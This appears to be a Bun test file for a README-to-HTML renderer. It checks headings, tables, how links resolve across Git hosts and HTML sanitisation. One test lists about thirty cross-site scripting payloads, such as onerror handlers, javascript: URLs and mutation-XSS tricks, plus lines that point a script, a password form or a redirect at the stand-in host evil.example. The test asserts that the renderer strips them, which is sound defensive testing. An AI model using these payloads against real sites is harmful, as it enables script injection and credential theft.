import { describe, expect, test } from 'bun:test'
import { renderReadme, type ReadmeOrder } from './readme-html.ts'

function render(text: string, rest: Partial<ReadmeOrder> = {}): string {
  return renderReadme({ text, path: 'README.md', repository: 'https://github.com/acme/http.git', reference: 'abc123', ...rest })
}

const BLOB = 'https://github.com/acme/http/blob/abc123'
const RAW = 'https://raw.githubusercontent.com/acme/http/abc123'
const REL = 'rel="nofollow noindex noopener external ugc"'

describe('CO-148 a README as HTML', () => {
  test('CO-148 loses the heading at its beginning, and no other', () => {
    expect(render('# acme/http\n\nText.\n\n# Usage')).toBe('<p>Text.</p>\n<h1>Usage</h1>')
    expect(render('acme/http\n---\nText.')).toBe('<p>Text.</p>')
    expect(render('Text.\n\n## Usage')).toBe('<p>Text.</p>\n<h2>Usage</h2>')
    expect(render('### Usage')).toBe('<h3>Usage</h3>')
  })

  test('CO-148 has tables, code, task lists and what else people write', () => {
    expect(render('```php\n$a < 1;\n```')).toBe('<pre><code class="language-php">$a &lt; 1;\n</code></pre>')
    expect(render('| a | b |\n|---|:-:|\n| 1 | 2 |')).toContain('<td align="center">2</td>')
    expect(render('~~gone~~ <kbd>Ctrl</kbd>')).toBe('<p><del>gone</del> <kbd>Ctrl</kbd></p>')
  })

  test.each([
    ['[a](docs/usage.md)', `<p><a href="${BLOB}/docs/usage.md" ${REL}>a</a></p>`],
    ['[a](./docs/../LICENSE)', `<p><a href="${BLOB}/LICENSE" ${REL}>a</a></p>`],
    ['[a](/LICENSE)', `<p><a href="${BLOB}/LICENSE" ${REL}>a</a></p>`],
    ['![a](logo.png)', `<p><img alt="a" src="${RAW}/logo.png" /></p>`],
    ['[a](#usage)', `<p><a href="#usage" ${REL}>a</a></p>`],
    ['[a](https://example.org/)', `<p><a href="https://example.org/" ${REL}>a</a></p>`],
    ['[a](mailto:a@example.org)', `<p><a href="mailto:a@example.org" ${REL}>a</a></p>`],
    [
      '<a href="https://example.org" rel="me" target="_blank" onclick="x()">a</a>',
      `<p><a href="https://example.org" ${REL}>a</a></p>`,
    ],
  ])('CO-148 %s leads to the hosting provider, or where it says', (text, html) => {
    expect(render(text)).toBe(html)
  })

  test.each([
    ['https://gitlab.com/group/sub/http.git', 'https://gitlab.com/group/sub/http/-/blob/abc123/a.md'],
    ['git@bitbucket.org:acme/http.git', 'https://bitbucket.org/acme/http/src/abc123/a.md'],
    ['ssh://git@codeberg.org/acme/http', 'https://codeberg.org/acme/http/src/commit/abc123/a.md'],
  ])('CO-148 relative links of %s lead there', (repository, href) => {
    expect(render('[a](a.md)', { repository })).toContain(`href="${href}"`)
  })

  test('CO-148 relative links of another host, or of none, are text, and such images nothing', () => {
    for (const repository of ['https://git.example.org/acme/http.git', 'https://__proto__/a/b', null]) {
      expect(render('[a](a.md) ![b](b.png)', { repository })).toBe('<p><a>a</a> </p>')
    }
  })

  test('CO-148 links of a README in a directory are relative to that', () => {
    expect(render('[a](a.md)', { path: 'docs/README.md' })).toContain(`href="${BLOB}/docs/a.md"`)
  })

  test.each(['README', 'README.txt', 'docs/readme.TXT'])('CO-148 %s is shown as it is', (path) => {
    expect(render('# <b>A</b> & "c"', { path })).toBe('<pre># &#60;b&#62;A&#60;/b&#62; &#38; &#34;c&#34;</pre>')
  })

  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<p style="position:fixed;top:0" class="modal" id="root">x</p>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\tscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>) [c](file:///etc/passwd)',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)',
    '[a](//evil.example/x)',
    '<a href="\u0001javascript:alert(1)">a</a>',
    '<a href="https://a.example\u202egpj.exe" onmouseover=alert(1)>a</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<a title="`><img src=x onerror=alert(1)>`">a</a>',
    '`<script>alert(1)</script>`\n\n    <script>alert(1)</script>',
    '<xmp><script>alert(1)</script></xmp><plaintext>',
    '<details ontoggle=alert(1) open>x</details>',
  ])('CO-148 abuse 45 %j runs nothing, loads nothing of a foreign kind and leads nowhere bad', (text) => {
    const html = render(text)
    const outside = html.replaceAll(/<(?:pre|code)[^>]*>[\s\S]*?<\/(?:pre|code)>/g, '')

    expect(outside).not.toMatch(
      /<(?:script|svg|math|iframe|object|embed|form|input|button|style|base|meta|link|noscript|textarea|xmp|plaintext)/i,
    )
    for (const [, attributes = ''] of outside.matchAll(/<[a-z][a-z0-9]*((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)) {
      for (const [, name = '', value = ''] of attributes.matchAll(/\s([^\s=>/]+)(?:="([^"]*)")?/g)) {
        expect(['href', 'rel', 'title', 'src', 'alt', 'class', 'align', 'open']).toContain(name)
        expect(['href', 'src'].includes(name) ? value : '#').toMatch(/^(?:https?:|mailto:|#)/)
      }
    }
    expect(html).not.toMatch(/[\u0000-\u0008\u202a-\u202e\u2066-\u2069]/)
  })
})
